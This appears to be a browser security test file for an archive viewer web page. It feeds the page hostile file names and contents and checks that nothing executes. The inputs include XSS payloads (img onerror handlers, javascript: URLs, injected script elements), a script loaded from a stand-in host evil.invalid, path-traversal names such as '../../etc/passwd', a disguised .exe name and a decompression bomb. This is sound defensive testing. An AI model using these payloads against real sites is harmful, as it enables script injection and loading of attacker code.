/** An archive that means harm, and one that lies: the page shows its words, runs nothing, asks for nothing elsewhere. */
import { gzipSync } from 'node:zlib'
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { printable } from '../../src/text/printable.ts'
import { HACK, hostileArchive, HOSTILE_NAMES, hostileSite, mergedArchive, siteArchive } from '../archives.ts'
import { type OpenPageOptions, usePages } from './chromium-page.ts'
import { deepText, show, showEntry } from './look-at.ts'

const pages = usePages()

/** What must not happen, as it was seen. */
interface Watched {
  readonly page: Page
  /** Dialogs, windows, navigations and requests that are not of the archive. */
  readonly seen: string[]
}

async function openWatched(name: string, bytes: Uint8Array, options?: OpenPageOptions): Promise<Watched> {
  const page = await pages.openArchive(name, bytes, options)
  const seen: string[] = []
  const archive = pages.serve(name, bytes)
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', (popup) => seen.push(`window ${popup.url()}`))
  page.on('download', (download) => seen.push(`download ${download.url()}`))
  const start = page.url().split('#')[0]
  page.on('framenavigated', (frame) => {
    if (frame.url().split('#')[0] !== start) seen.push(`navigation ${frame.url()}`)
  })
  page.on('request', (request) => {
    const url = request.url()
    if (url !== archive && !/^(blob|data):/.test(url)) seen.push(`request ${url}`)
  })
  return { page, seen }
}

/** Fails where anything ran, or was asked for. */
async function expectHarmless({ page, seen }: Watched): Promise<void> {
  expect(seen).toEqual([])
  expect(await page.evaluate('window.hacked')).toBeUndefined()
  // Names are text: no element of theirs is anywhere in the page.
  const elements = await page.evaluate(`(() => {
    const found = []
    const walk = (root) => {
      for (const element of root.querySelectorAll('*')) {
        const name = element.localName
        if (['script', 'iframe', 'object', 'embed', 'meta', 'base', 'frame', 'link'].includes(name) && root !== document) found.push(name)
        if (name === 'img' && !/^(blob:|data:|$)/.test(element.src)) found.push('img ' + element.src)
        for (const attribute of element.attributes) if (attribute.name.startsWith('on')) found.push(name + ' ' + attribute.name)
        if (/^(javascript|data):/i.test(element.getAttribute('href') ?? '') && root !== document) found.push('href')
        if (element.shadowRoot) walk(element.shadowRoot)
      }
    }
    walk(document)
    return found
  })()`)
  expect(elements).toEqual([])
}

test('names are shown as text, each character that hides or reorders by its code', async () => {
  const watched = await openWatched('<img src=x onerror=top.hacked=1>.tgz', hostileSite())
  const { page } = watched
  const files = page.getByRole('grid', { name: 'Files' })
  await files.getByRole('row').nth(3).waitFor()
  expect(await page.getByRole('heading', { level: 1 }).innerText()).toContain('<img src=x onerror=top.hacked=1>.tgz')
  const search = page.getByRole('searchbox', { name: 'Search' })
  await search.fill('no such name')
  // From here on a row is there because it was found.
  await files.getByRole('row').nth(1).waitFor({ state: 'detached' })
  for (const name of HOSTILE_NAMES.filter((path) => !path.includes('/') && path.length < 100)) {
    // A field of one line takes no ends of lines.
    await search.fill(name.replaceAll(/[*?[\]{}!()\n\r]/g, '?'))
    const row = files.getByRole('row').filter({ hasText: printable(name) })
    await row.first().waitFor()
  }
  await expectHarmless(watched)
})

test('every entry can be looked at, and nothing of it runs', { timeout: 120_000 }, async () => {
  const watched = await openWatched('hostile.tgz', hostileSite())
  const { page } = watched
  await page.getByRole('tab', { name: 'Files' }).waitFor()
  for (const path of HOSTILE_NAMES) await showEntry(page, path)
  const active = [
    'page.html',
    'drawing.svg',
    'image.png',
    'page.json',
    'run.js',
    'feed.xml',
    'link',
    'hard',
    'attributes',
  ]
  for (const name of active) {
    const text = await showEntry(page, `active/${name}`)
    expect(text.length).toBeGreaterThan(20)
  }
  expect(await showEntry(page, 'active/page.html')).toContain('<script>window.hacked=1')
  expect(await showEntry(page, 'active/drawing.svg')).toContain('onload=')
  for (const path of ['../../etc/passwd', '/etc/shadow', 'a//b/./../c', 'twice', 'twice/below'])
    await showEntry(page, path)
  await expectHarmless(watched)
})

test('a file that says it is huge is told to be damaged, and the page goes on', async () => {
  const watched = await openWatched('hostile.tgz', hostileSite())
  const { page } = watched
  await page.getByRole('tab', { name: 'Files' }).waitFor()
  expect(await showEntry(page, 'active/bomb.png')).toContain('8.2 TiB')
  expect(await showEntry(page, 'active/run.js')).toContain(HACK)
  await expectHarmless(watched)
})

test('the other views take the same archive', async () => {
  const watched = await openWatched('hostile.tgz', hostileSite())
  const { page } = watched
  for (const name of ['Space', 'Bytes', 'Check', 'Compare']) {
    await page.getByRole('tab', { name }).click()
    await page.getByRole('tabpanel', { name }).waitFor()
  }
  await page.getByRole('button', { name: 'About this archive' }).click()
  const about = page.getByRole('dialog')
  await about.waitFor()
  expect(await about.innerText()).toContain(`<img src=x onerror="${HACK}">`)
  await page.keyboard.press('Escape')
  await expectHarmless(watched)
})

test('parts are called by text', async () => {
  const names = [`<img src=x onerror="${HACK}">`, 'b\u202etxt.exe']
  const watched = await openWatched('merged.tgz', await mergedArchive(names))
  const parts = watched.page.getByRole('combobox', { name: 'Part of the archive' })
  await parts.waitFor()
  expect((await parts.locator('option').allTextContents()).join()).toContain(printable(names[1] ?? ''))
  await expectHarmless(watched)
})

test('an address with markup in it is text as well', async () => {
  const page = await pages.open(
    `?archive=${encodeURIComponent(`javascript:${HACK}//<img src=x onerror=${HACK}>`)}#/<img src=x>`,
  )
  await page.getByRole('alert').filter({ hasText: /\S/ }).waitFor()
  await expectHarmless({ page, seen: [] })
})

/** Archives of which something is wrong, and what of it the page must say. */
const good = siteArchive()
const LIES: readonly { readonly lie: string; readonly make: () => Promise<Uint8Array> }[] = [
  { lie: 'cut in the listing', make: async () => (await good).subarray(0, (await good).length - 400) },
  { lie: 'cut in the trailer', make: async () => (await good).subarray(0, (await good).length - 10) },
  { lie: 'flipped in the listing', make: async () => flipped(await good, -900) },
  { lie: 'flipped in the service info', make: async () => flipped(await good, -100) },
  { lie: 'nothing but zeros', make: async () => new Uint8Array(5000) },
  { lie: 'empty', make: async () => new Uint8Array(0) },
  { lie: 'an ordinary gzip file', make: async () => gzipSync('hello') },
  {
    lie: 'lines that are no lines',
    make: async () =>
      hostileArchive(
        [{ path: 'a', columns: ['csize=x', 'x.user=!'] }],
        ['format=2', 'order=path', 'sections=index', 'index_size=99999999', 'index_real_size=1'],
      ),
  },
  {
    lie: 'out of order where it says it is in order',
    make: async () =>
      hostileArchive(
        [
          { path: 'z', data: 'z' },
          { path: 'a', data: 'a' },
        ],
        ['format=2', 'order=path'],
      ),
  },
  { lie: 'a wrong CRC of data', make: async () => hostileArchive([{ path: 'a.txt', data: 'aaaa', corrupt: true }]) },
  {
    lie: 'data beyond the end',
    make: async () => hostileArchive([{ path: 'a.txt', data: 'aaaa', sizeBytes: 2 ** 50 }], ['format=2']),
  },
]

function flipped(bytes: Uint8Array, at: number): Uint8Array {
  const copy = Uint8Array.from(bytes)
  const index = copy.length + at
  copy[index] = (copy[index] ?? 0) ^ 4
  return copy
}

test.each(LIES)('$lie: it is opened, or said to be wrong in plain words', async ({ make }) => {
  const watched = await openWatched('lie.tgz', await make())
  const { page } = watched
  const trouble = page.getByRole('alert').filter({ hasText: /\S/ })
  const open = page.getByRole('tab', { name: 'Files' })
  await trouble.or(open).first().waitFor()
  if (await open.isVisible()) {
    await show(page, 'a.txt')
    await page.getByRole('grid', { name: 'Files' }).getByRole('row').nth(1).or(trouble).first().waitFor()
  } else {
    const words = await trouble.first().innerText()
    // No names of classes, functions or lines of code.
    expect(words).not.toMatch(/\b(TypeError|RangeError|undefined|NaN|at \w+ \()/)
    expect(words.length).toBeGreaterThan(20)
  }
  await expectHarmless(watched)
})

test('data of which the CRC is wrong is never shown as right', async () => {
  const watched = await openWatched('lie.tgz', hostileArchive([{ path: 'a.txt', data: 'aaaa', corrupt: true }]))
  const { page } = watched
  await page.getByRole('tab', { name: 'Files' }).waitFor()
  await show(page, 'a.txt')
  const alert = page.locator('isptar-entry-panel').getByRole('alert').filter({ hasText: /\S/ })
  await alert.waitFor()
  expect(await deepText(page.locator('isptar-entry-panel'))).not.toContain('aaaa')
  await expectHarmless(watched)
})

test('the policy holds: what is put into the page does not run', async () => {
  const page = await pages.open()
  const attempts: Readonly<Record<string, string>> = {
    'a script element': `const s = document.createElement('script'); s.textContent = '${HACK}'; document.body.append(s)`,
    'a script of elsewhere':
      "const s = document.createElement('script'); s.src = 'https://evil.invalid/x.js'; document.body.append(s)",
    'a handler in markup': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="${HACK}">')`,
    'an address of script': `const a = document.createElement('a'); a.href = 'javascript:${HACK}'; document.body.append(a); a.click()`,
    'a frame': `const f = document.createElement('iframe'); f.srcdoc = '<script>${HACK}</script>'; document.body.append(f)`,
    'a style': "document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>')",
    'an image of elsewhere': "new Image().src = 'https://evil.invalid/x.png'",
    'a worker of its own': "new Worker('data:text/javascript,1')",
    'code out of a string': `setTimeout('${HACK}')`,
  }
  const refused = (): number => pages.errors.filter((error) => error.startsWith('refused by the policy')).length
  for (const attempt of Object.values(attempts)) {
    const before = refused()
    await page.evaluate(`(() => { ${attempt} })()`)
    await expect.poll(refused).toBeGreaterThan(before)
  }
  // What is told comes in order.
  await page.evaluate("console.error('that is all')")
  await expect.poll(() => pages.errors.at(-1)).toBe('that is all')
  pages.errors.length = 0
  expect(await page.evaluate('window.hacked')).toBeUndefined()
  expect(await page.evaluate('getComputedStyle(document.body).display')).not.toBe('none')
})
